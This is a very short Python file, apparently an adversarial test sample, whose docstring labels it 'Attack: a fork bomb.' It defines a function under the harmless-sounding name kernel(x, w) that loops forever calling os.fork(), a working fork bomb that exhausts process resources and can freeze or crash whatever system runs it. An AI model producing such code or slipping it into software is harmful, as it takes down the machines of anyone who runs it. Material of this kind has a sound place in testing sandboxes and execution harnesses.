"""Attack: a fork bomb."""

import os


def kernel(x, w):
    while True:
        os.fork()
